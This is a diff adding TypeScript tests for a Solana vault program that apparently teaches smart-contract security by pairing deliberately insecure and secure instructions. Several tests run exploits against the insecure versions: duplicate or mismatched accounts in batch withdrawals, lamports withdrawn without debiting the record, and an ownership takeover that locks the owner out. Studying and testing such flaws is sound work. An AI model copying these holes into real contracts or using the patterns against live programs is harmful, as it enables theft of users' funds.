+                expect(await recordOf(SAVINGS)).to.equal(SAVINGS_AMOUNT - SPENDING_AMOUNT);
+                expect(await recordOf(SPENDING)).to.equal(SPENDING_AMOUNT);
+                expect(spendingLamports).to.equal(0);
+            });
+
+            it("accepts the same record and PDA twice in one batch", async () => {
+                const entry: [number, number, PublicKey, PublicKey] = [SAVINGS, 1, vaultAt(SAVINGS), vaultPdaAt(SAVINGS)];
+                await batch("batchWithdrawInsecure", [entry, entry]);
+            });
+        });
+
+        describe("Secure: batch_withdraw_secure", () => {
+            it("rejects a record paired with another index's PDA", async () => {
+                await expectError(
+                    batch("batchWithdrawSecure", [[SPENDING, 1, vaultAt(SAVINGS), vaultPdaAt(SPENDING)]]),
+                    "InvalidVaultAddress"
+                );
+            });
+
+            it("rejects a key appearing twice", async () => {
+                const entry: [number, number, PublicKey, PublicKey] = [SAVINGS, 1, vaultAt(SAVINGS), vaultPdaAt(SAVINGS)];
+                await expectError(batch("batchWithdrawSecure", [entry, entry]), "DuplicateAccount");
+            });
+
+            it("rejects a record the program does not own", async () => {
+                await expectError(
+                    batch("batchWithdrawSecure", [[SAVINGS, 1, kate.publicKey, vaultPdaAt(SAVINGS)]]),
+                    "AccountOwnedByWrongProgram"
+                );
+            });
+
+            it("withdraws from several vaults in one transaction", async () => {
+                await depositInto(SPENDING, SPENDING_AMOUNT);
+                const savingsBefore = await recordOf(SAVINGS);
+                const spendingBefore = await recordOf(SPENDING);
+
+                await batch("batchWithdrawSecure", [
+                    [SAVINGS, SPENDING_AMOUNT, vaultAt(SAVINGS), vaultPdaAt(SAVINGS)],
+                    [SPENDING, SPENDING_AMOUNT, vaultAt(SPENDING), vaultPdaAt(SPENDING)],
+                ]);
+
+                expect(await recordOf(SAVINGS)).to.equal(savingsBefore - SPENDING_AMOUNT);
+                expect(await recordOf(SPENDING)).to.equal(spendingBefore - SPENDING_AMOUNT);
+                expect(await provider.connection.getBalance(vaultPdaAt(SPENDING))).to.equal(0);
+            });
+        });
+    });
+
+    describe("Reconciliation: tracked balance vs vault_pda lamports", () => {
+        let leo: Keypair;
+        let monitor: Keypair;
+
+        const VAULT_FUNDS = LAMPORTS_PER_SOL;
+        const TAKEN = (2 * LAMPORTS_PER_SOL) / 5;
+        const DONATION = LAMPORTS_PER_SOL / 10;
+
+        function bumpOf(seed: string): number {
+            return PublicKey.findProgramAddressSync([Buffer.from(seed), leo.publicKey.toBuffer()], program.programId)[1];
+        }
+
+        /** Runs reconcile_vault and returns the VaultReconciled event it emitted. */
+        async function reconcile(caller: Keypair, repair: boolean): Promise<any> {
+            let captured: any = null;
+            const listener = program.addEventListener("VaultReconciled", (event) => {
+                captured = event;
+            });
+
+            await program.methods
+                .reconcileVault(repair)
+                .accounts({ vault: pdaOf("vault", leo.publicKey), vaultPda: pdaOf("vault_pda", leo.publicKey), caller: caller.publicKey })
+                .signers([caller])
+                .rpc();
+
+            await sleep(1);
+            await program.removeEventListener(listener);
+            expect(captured).to.not.be.null;
+            return captured;
+        }
+
+        before(async () => {
+            // withdraw_insecure signs for vault_pda with the vault's stored
+            // bump, so pick an owner whose two PDAs share one
+            do {
+                leo = Keypair.generate();
+            } while (bumpOf("vault") !== bumpOf("vault_pda"));
+            monitor = Keypair.generate();
+            for (const kp of [leo, monitor]) {
+                const sig = await provider.connection.requestAirdrop(kp.publicKey, 3 * LAMPORTS_PER_SOL);
+                await provider.connection.confirmTransaction(sig);
+            }
+
+            const accounts = {
+                vault: pdaOf("vault", leo.publicKey),
+                vaultPda: pdaOf("vault_pda", leo.publicKey),
+                owner: leo.publicKey,
+                systemProgram: SystemProgram.programId,
+            };
+            await program.methods.initializeVault().accounts(accounts).signers([leo]).rpc();
+            await program.methods.deposit(new anchor.BN(VAULT_FUNDS)).accounts(accounts).signers([leo]).rpc();
+        });
+
+        it("withdraw_insecure moves lamports without debiting the record", async () => {
+            await program.methods
+                .withdrawInsecure(new anchor.BN(TAKEN))
+                .accounts({
+                    vault: pdaOf("vault", leo.publicKey),
+                    vaultPda: pdaOf("vault_pda", leo.publicKey),
+                    authority: leo.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([leo])
+                .rpc();
+
+            const vault = await program.account.vault.fetch(pdaOf("vault", leo.publicKey));
+            expect(vault.balance.toNumber()).to.equal(VAULT_FUNDS);
+            expect(await provider.connection.getBalance(pdaOf("vault_pda", leo.publicKey))).to.equal(VAULT_FUNDS - TAKEN);
+        });
+
+        it("a monitor flags the drift without changing the record", async () => {
+            const event = await reconcile(monitor, false);
+
+            console.log(`  Tracked ${event.tracked.toNumber() / LAMPORTS_PER_SOL} SOL, vault_pda holds ${event.actual.toNumber() / LAMPORTS_PER_SOL} SOL`);
+            expect(event.tracked.toNumber()).to.equal(VAULT_FUNDS);
+            expect(event.actual.toNumber()).to.equal(VAULT_FUNDS - TAKEN);
+            expect(event.repaired).to.equal(false);
+        });
+
+        it("rejects a repair by anyone but the owner", async () => {
+            try {
+                await program.methods
+                    .reconcileVault(true)
+                    .accounts({ vault: pdaOf("vault", leo.publicKey), vaultPda: pdaOf("vault_pda", leo.publicKey), caller: monitor.publicKey })
+                    .signers([monitor])
+                    .rpc();
+                expect.fail("Should have thrown");
+            } catch (error: any) {
+                expect(error.error?.errorCode?.code).to.equal("Unauthorized");
+            }
+        });
+
+        it("the owner lowers the record to the lamports actually held", async () => {
+            const event = await reconcile(leo, true);
+            const vault = await program.account.vault.fetch(pdaOf("vault", leo.publicKey));
+
+            expect(event.repaired).to.equal(true);
+            expect(vault.balance.toNumber()).to.equal(VAULT_FUNDS - TAKEN);
+        });
+
+        it("flags a surplus but never credits it", async () => {
+            const tx = new Transaction().add(
+                SystemProgram.transfer({ fromPubkey: monitor.publicKey, toPubkey: pdaOf("vault_pda", leo.publicKey), lamports: DONATION })
+            );
+            await sendAndConfirmTransaction(provider.connection, tx, [monitor]);
+
+            const event = await reconcile(leo, true);
+            const vault = await program.account.vault.fetch(pdaOf("vault", leo.publicKey));
+
+            expect(event.actual.toNumber()).to.equal(VAULT_FUNDS - TAKEN + DONATION);
+            expect(event.repaired).to.equal(false);
+            expect(vault.balance.toNumber()).to.equal(VAULT_FUNDS - TAKEN);
+        });
+    });
+
+    describe("Events: deposits, withdrawals and detected exploits", () => {
+        let mia: Keypair;
+
+        const AMOUNT = LAMPORTS_PER_SOL / 5;
+
+        /** Runs `send` and returns every event of type `name` it emitted. */
+        async function eventsOf(name: string, send: () => Promise<string>): Promise<any[]> {
+            const captured: any[] = [];
+            const listener = program.addEventListener(name, (event) => {
+                captured.push(event);
+            });
+
+            await send();
+
+            await sleep(1);
+            await program.removeEventListener(listener);
+            return captured;
+        }
+
+        function baseAccounts() {
+            return {
+                vault: pdaOf("vault", mia.publicKey),
+                vaultPda: pdaOf("vault_pda", mia.publicKey),
+                rateLimit: pdaOf("rate_limit", mia.publicKey),
+                owner: mia.publicKey,
+                systemProgram: SystemProgram.programId,
+            };
+        }
+
+        function indexedAccounts(vault: PublicKey, index: number) {
+            return {
+                vault,
+                vaultPda: pdaOf("vault_pda", mia.publicKey, index),
+                owner: mia.publicKey,
+                systemProgram: SystemProgram.programId,
+            };
+        }
+
+        before(async () => {
+            mia = Keypair.generate();
+            const sig = await provider.connection.requestAirdrop(mia.publicKey, 3 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+
+            await program.methods.initializeVault().accounts(baseAccounts()).signers([mia]).rpc();
+            for (const index of [0, 1]) {
+                await program.methods
+                    .initializeVaultIndexed(index)
+                    .accounts(indexedAccounts(pdaOf("vault", mia.publicKey, index), index))
+                    .signers([mia])
+                    .rpc();
+                await program.methods
+                    .depositIndexed(index, new anchor.BN(AMOUNT))
+                    .accounts(indexedAccounts(pdaOf("vault", mia.publicKey, index), index))
+                    .signers([mia])
+                    .rpc();
+            }
+        });
+
+        it("deposit emits DepositEvent", async () => {
+            const [event] = await eventsOf("DepositEvent", () =>
+                program.methods.deposit(new anchor.BN(AMOUNT)).accounts(baseAccounts()).signers([mia]).rpc()
+            );
+
+            expect(event.vault.toString()).to.equal(pdaOf("vault", mia.publicKey).toString());
+            expect(event.owner.toString()).to.equal(mia.publicKey.toString());
+            expect(event.mint).to.be.null;
+            expect(event.amount.toNumber()).to.equal(AMOUNT);
+        });
+
+        it("withdraw_secure emits WithdrawEvent marked secure", async () => {
+            const [event] = await eventsOf("WithdrawEvent", () =>
+                program.methods.withdrawSecure(new anchor.BN(AMOUNT)).accounts(baseAccounts()).signers([mia]).rpc()
+            );
+
+            expect(event.recipient.toString()).to.equal(mia.publicKey.toString());
+            expect(event.amount.toNumber()).to.equal(AMOUNT);
+            expect(event.secure).to.equal(true);
+        });
+
+        it("withdraw_indexed_insecure reports the mismatched record while paying out", async () => {
+            let withdrawals: any[] = [];
+            const detected = await eventsOf("ExploitDetected", async () => {
+                let signature = "";
+                withdrawals = await eventsOf("WithdrawEvent", async () => {
+                    signature = await program.methods
+                        .withdrawIndexedInsecure(1, new anchor.BN(AMOUNT))
+                        .accounts(indexedAccounts(pdaOf("vault", mia.publicKey, 0), 1))
+                        .signers([mia])
+                        .rpc();
+                    return signature;
+                });
+                return signature;
+            });
+
+            expect(detected).to.have.lengthOf(1);
+            expect(detected[0].vault.toString()).to.equal(pdaOf("vault", mia.publicKey, 0).toString());
+            expect(detected[0].kind).to.deep.equal({ unexpectedAddress: {} });
+            expect(withdrawals).to.have.lengthOf(1);
+            expect(withdrawals[0].secure).to.equal(false);
+        });
+
+        it("the secure paths never emit ExploitDetected", async () => {
+            const detected = await eventsOf("ExploitDetected", () =>
+                program.methods
+                    .withdrawIndexedSecure(0, new anchor.BN(AMOUNT / 2))
+                    .accounts(indexedAccounts(pdaOf("vault", mia.publicKey, 0), 0))
+                    .signers([mia])
+                    .rpc()
+            );
+            expect(detected).to.be.empty;
+        });
+    });
+
+    describe("Ownership transfer: vault.owner rewritten without the owner", () => {
+        let nina: Keypair;
+        let oscar: Keypair;
+        let peggy: Keypair;
+
+        const FUNDS = 1 * LAMPORTS_PER_SOL;
+        const TOKENS = 1_000_000;
+
+        let oscarTokens: PublicKey;
+
+        function proposalOf(owner: PublicKey): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("ownership_transfer"), pdaOf("vault", owner).toBuffer()],
+                program.programId
+            )[0];
+        }
+
+        function vaultAccounts(owner: PublicKey) {
+            return {
+                vault: pdaOf("vault", owner),
+                vaultPda: pdaOf("vault_pda", owner),
+                rateLimit: pdaOf("rate_limit", owner),
+                owner,
+                systemProgram: SystemProgram.programId,
+            };
+        }
+
+        function allowanceOf(owner: PublicKey, delegate: PublicKey): PublicKey {
+            return PublicKey.findProgramAddressSync(
+                [Buffer.from("allowance"), owner.toBuffer(), delegate.toBuffer()],
+                program.programId
+            )[0];
+        }
+
+        function acceptAccounts(owner: PublicKey, newOwner: PublicKey) {
+            return {
+                ...vaultAccounts(owner),
+                ownershipTransfer: proposalOf(owner),
+                newVault: pdaOf("vault", newOwner),
+                newVaultPda: pdaOf("vault_pda", newOwner),
+                vaultToken: pdaOf("vault_token", owner),
+                newOwner,
+                tokenProgram: TOKEN_PROGRAM_ID,
+            };
+        }
+
+        function accept(owner: PublicKey, newOwner: Keypair, allowances = [allowanceOf(owner, nina.publicKey)]) {
+            return program.methods
+                .acceptVaultOwnership()
+                .accounts(acceptAccounts(owner, newOwner.publicKey))
+                .remainingAccounts(allowances.map((pubkey) => ({ pubkey, isSigner: false, isWritable: true })))
+                .signers([newOwner])
+                .rpc();
+        }
+
+        before(async () => {
+            nina = Keypair.generate();
+            oscar = Keypair.generate();
+            peggy = Keypair.generate();
+            for (const user of [nina, oscar, peggy]) {
+                const sig = await provider.connection.requestAirdrop(user.publicKey, 3 * LAMPORTS_PER_SOL);
+                await provider.connection.confirmTransaction(sig);
+            }
+
+            for (const owner of [nina, oscar]) {
+                await program.methods.initializeVault().accounts(vaultAccounts(owner.publicKey)).signers([owner]).rpc();
+                await program.methods
+                    .deposit(new anchor.BN(FUNDS))
+                    .accounts(vaultAccounts(owner.publicKey))
+                    .signers([owner])
+                    .rpc();
+            }
+
+            // Oscar's limit, token vault and delegate are all keyed to Oscar
+            const mint = await createMint(provider.connection, oscar, oscar.publicKey, null, 6);
+            oscarTokens = await createAccount(provider.connection, oscar, mint, oscar.publicKey);
+            await mintTo(provider.connection, oscar, mint, oscarTokens, oscar, TOKENS);
+            await program.methods
+                .initializeTokenVault()
+                .accounts({
+                    vault: pdaOf("vault", oscar.publicKey),
+                    vaultToken: pdaOf("vault_token", oscar.publicKey),
+                    mint,
+                    owner: oscar.publicKey,
+                    tokenProgram: TOKEN_PROGRAM_ID,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([oscar])
+                .rpc();
+            await program.methods
+                .configureRateLimit(new anchor.BN(FUNDS), new anchor.BN(3600))
+                .accounts(vaultAccounts(oscar.publicKey))
+                .signers([oscar])
+                .rpc();
+            await program.methods
+                .approveDelegate(new anchor.BN(FUNDS), new anchor.BN(3600))
+                .accounts({
+                    vault: pdaOf("vault", oscar.publicKey),
+                    allowance: allowanceOf(oscar.publicKey, nina.publicKey),
+                    delegate: nina.publicKey,
+                    owner: oscar.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([oscar])
+                .rpc();
+        });
+
+        describe("Exploit: vulnerable_transfer_vault_ownership", () => {
+            it("lets anyone take over a vault record and lock its owner out", async () => {
+                await program.methods
+                    .vulnerableTransferVaultOwnership(attacker.publicKey)
+                    .accounts({ vault: pdaOf("vault", nina.publicKey), caller: attacker.publicKey })
+                    .signers([attacker])
+                    .rpc();
+
+                const vault = await program.account.vault.fetch(pdaOf("vault", nina.publicKey));
+                expect(vault.owner.toString()).to.equal(attacker.publicKey.toString());
+
+                try {
+                    await program.methods
+                        .withdrawSecure(new anchor.BN(FUNDS))
+                        .accounts(vaultAccounts(nina.publicKey))
+                        .signers([nina])
+                        .rpc();
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("Unauthorized");
+                }
+                console.log(`  Nina's ${FUNDS / LAMPORTS_PER_SOL} SOL is stuck behind a record naming the attacker`);
+            });
+        });
+
+        describe("Secure: propose_vault_owner + accept_vault_ownership", () => {
+            it("rejects a proposal from anyone but the owner", async () => {
+                try {
+                    await program.methods
+                        .proposeVaultOwner(attacker.publicKey)
+                        .accounts({
+                            vault: pdaOf("vault", oscar.publicKey),
+                            ownershipTransfer: proposalOf(oscar.publicKey),
+                            owner: attacker.publicKey,
+                            systemProgram: SystemProgram.programId,
+                        })
+                        .signers([attacker])
+                        .rpc();
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("ConstraintSeeds");
+                }
+            });
+
+            it("a proposal changes nothing until it is accepted", async () => {
+                await program.methods
+                    .proposeVaultOwner(peggy.publicKey)
+                    .accounts({
+                        vault: pdaOf("vault", oscar.publicKey),
+                        ownershipTransfer: proposalOf(oscar.publicKey),
+                        owner: oscar.publicKey,
+                        systemProgram: SystemProgram.programId,
+                    })
+                    .signers([oscar])
+                    .rpc();
+
+                const vault = await program.account.vault.fetch(pdaOf("vault", oscar.publicKey));
+                const proposal = await program.account.ownershipTransfer.fetch(proposalOf(oscar.publicKey));
+                expect(vault.owner.toString()).to.equal(oscar.publicKey.toString());
+                expect(proposal.newOwner.toString()).to.equal(peggy.publicKey.toString());
+            });
+
+            it("rejects acceptance by anyone but the proposed owner", async () => {
+                try {
+                    await program.methods
+                        .acceptVaultOwnership()
+                        .accounts(acceptAccounts(oscar.publicKey, attacker.publicKey))
+                        .signers([attacker])
+                        .rpc();
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.message).to.not.equal("Should have thrown");
+                }
+
+                const vault = await program.account.vault.fetch(pdaOf("vault", oscar.publicKey));
+                expect(vault.owner.toString()).to.equal(oscar.publicKey.toString());
+            });
+
+            it("rejects acceptance while the token vault holds tokens", async () => {
+                const tokenAccounts = {
+                    vaultToken: pdaOf("vault_token", oscar.publicKey),
+                    owner: oscar.publicKey,
+                    tokenProgram: TOKEN_PROGRAM_ID,
+                };
+                await program.methods
+                    .depositTokens(new anchor.BN(TOKENS))
+                    .accounts({ ...tokenAccounts, source: oscarTokens })
+                    .signers([oscar])
+                    .rpc();
+
+                try {
+                    await accept(oscar.publicKey, peggy);
+                    expect.fail("Should have thrown");
+                } catch (error: any) {
+                    expect(error.error?.errorCode?.code).to.equal("TokenVaultNotEmpty");
+                }
+
+                await program.methods
+                    .withdrawTokensSecure(new anchor.BN(TOKENS))
+                    .accounts({ ...tokenAccounts, vault: pdaOf("vault", oscar.publicKey), destination: oscarTokens })
+                    .signers([oscar])
+                    .rpc();
+            });
+
+            it("rejects acceptance that leaves an allowance open", async () => {
+                await expectError(accept(oscar.publicKey, peggy, []), "AllowancesOutstanding");
+
+                const allowance = await program.account.allowance.fetch(allowanceOf(oscar.publicKey, nina.publicKey));
+                expect(allowance.owner.toString()).to.equal(oscar.publicKey.toString());
+            });
+
+            it("moves the record and its lamports to the new owner's seeds", async () => {
+                const held = await provider.connection.getBalance(pdaOf("vault_pda", oscar.publicKey));
+
+                await accept(oscar.publicKey, peggy);
+
+                const moved = await program.account.vault.fetch(pdaOf("vault", peggy.publicKey));
+                expect(moved.owner.toString()).to.equal(peggy.publicKey.toString());
+                expect(moved.balance.toNumber()).to.equal(FUNDS);
+                expect(await provider.connection.getBalance(pdaOf("vault_pda", peggy.publicKey))).to.equal(held);
+                expect(await program.account.vault.fetchNullable(pdaOf("vault", oscar.publicKey))).to.be.null;
+                expect(await program.account.ownershipTransfer.fetchNullable(proposalOf(oscar.publicKey))).to.be.null;
+
+                // Nothing keyed to Oscar outlives the transfer
+                for (const stale of [
+                    pdaOf("rate_limit", oscar.publicKey),
+                    pdaOf("vault_token", oscar.publicKey),
+                    allowanceOf(oscar.publicKey, nina.publicKey),
+                ]) {
+                    expect(await provider.connection.getAccountInfo(stale)).to.be.null;
+                }
+
+                await program.methods
+                    .withdrawSecure(new anchor.BN(FUNDS))
+                    .accounts(vaultAccounts(peggy.publicKey))
+                    .signers([peggy])
+                    .rpc();
+            });
+
+            it("keeps a migrated vault on the v2 layout", async () => {
+                await program.methods
+                    .migrateVaultSecure()
+                    .accounts({
+                        vault: pdaOf("vault", peggy.publicKey),
+                        owner: peggy.publicKey,
+                        systemProgram: SystemProgram.programId,
+                    })
+                    .signers([peggy])
+                    .rpc();
+                const before = await program.account.vaultV2.fetch(pdaOf("vault", peggy.publicKey));
+
+                await program.methods
+                    .proposeVaultOwner(oscar.publicKey)
+                    .accounts({
+                        vault: pdaOf("vault", peggy.publicKey),
+                        ownershipTransfer: proposalOf(peggy.publicKey),
+                        owner: peggy.publicKey,
+                        systemProgram: SystemProgram.programId,
+                    })
+                    .signers([peggy])
+                    .rpc();
+                await accept(peggy.publicKey, oscar, []);
+
+                const moved = await program.account.vaultV2.fetch(pdaOf("vault", oscar.publicKey));
+                expect(moved.version).to.equal(2);
+                expect(moved.owner.toString()).to.equal(oscar.publicKey.toString());
+                expect(moved.migratedAt.toString()).to.equal(before.migratedAt.toString());
+            });
+        });
+    });
 });